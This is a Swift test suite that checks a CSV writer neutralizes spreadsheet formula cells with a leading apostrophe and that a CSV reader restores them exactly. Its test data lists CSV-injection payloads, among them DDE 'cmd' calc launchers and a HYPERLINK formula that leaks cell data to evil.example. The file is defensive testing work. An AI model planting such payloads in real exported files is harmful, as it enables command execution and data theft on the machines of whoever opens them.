import Testing
@testable import TICIngest

@Suite("Formula cells: neutralized by the CSV writer, read back exactly by the CSV reader")
struct SpreadsheetSafetyTests {
    /// Cells a spreadsheet would run, from the issue's red-team pass and OWASP's list, with what
    /// the writer puts in the file.
    static let hostile: [(cell: String, written: String)] = [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("=1+1", "'=1+1"),
        ("=1", "'=1"),
        ("=", "'="),
        ("@", "'@"),
        ("+", "'+"),
        ("-inf", "'-inf"),
        ("\tx", "'\tx"),
        ("\t=1", "'\t=1"),
        ("\rx", "\"'\rx\""),
        ("＝1", "'＝1"),
        ("＠x", "'＠x"),
        ("＋x", "'＋x"),
        ("－x", "'－x"),
        // A user's own apostrophe before a formula is kept: one more is written, one is removed on reading.
        ("'=1", "''=1"),
        ("''=1", "'''=1"),
        ("'+x", "''+x"),
        ("'\tx", "''\tx"),
    ]

    /// Cells left as they are: numbers, missing markers, text, and apostrophes before anything
    /// that is not formula-like.
    static let harmless = [
        "-3", "+1.5", "-3.5", "+7", "-1e3", "-12.5%", "－３", "-", "--", "－", "中心", "", "'", "''", "'text",
        "'-3", "a=b", "x-y", " =1 is quoted for its space", "1,234", "#N/A", "'#N/A",
    ]

    @Test("formula-like cells get one leading apostrophe", arguments: zip(hostile.map(\.cell), hostile.map(\.written)))
    func written(cell: String, expected: String) {
        #expect(CSVWriter.encode([[cell]]) == Array((expected + "\n").utf8))
        #expect(CSVWriter.escape(cell) == expected)
    }

    @Test("numbers, missing markers and text are written as they are", arguments: harmless)
    func harmlessCells(cell: String) {
        #expect(SpreadsheetSafety.neutralized(cell) == cell)
        #expect(!SpreadsheetSafety.needsApostrophe(cell))
    }

    @Test("every cell written reads back as itself", arguments: hostile.map(\.cell) + harmless.filter { !$0.hasPrefix(" ") })
    func roundTrip(cell: String) throws {
        let row = [cell, "id", cell]
        let bytes = CSVWriter.encode([["a", "b", "c"], row], options: .init(lineEnding: .crlf, byteOrderMark: false))
        var warnings: [Diagnostic] = []
        var read: [[String]] = []
        try CSVReader.forEachRecord(in: ContiguousArray(bytes), path: "t.csv", warnings: &warnings) { record in
            read.append((0..<record.count).map { record.string($0) })
        }
        #expect(read == [["a", "b", "c"], row])
        #expect(warnings.isEmpty)
        #expect(SpreadsheetSafety.original(SpreadsheetSafety.neutralized(cell)) == cell)
    }

    @Test("a number cell is parsed from the text a neutralized cell stands for")
    func numbers() throws {
        var parsed: [ParsedNumber] = []
        var warnings: [Diagnostic] = []
        try CSVReader.forEachRecord(in: ContiguousArray(" '-inf ,'=1,'-3,-3\n".utf8), path: "t.csv", warnings: &warnings) { record in
            parsed = (0..<record.count).map { record.number($0) }
        }
        // `'-inf` was written for `-inf`: not finite, rather than "not a number". `'-3` was never
        // written by the writer (`-3` is a number), so it stays text.
        #expect(parsed == [.invalid(.nonFinite), .invalid(.notANumber), .invalid(.notANumber), .value(-3)])
    }
}
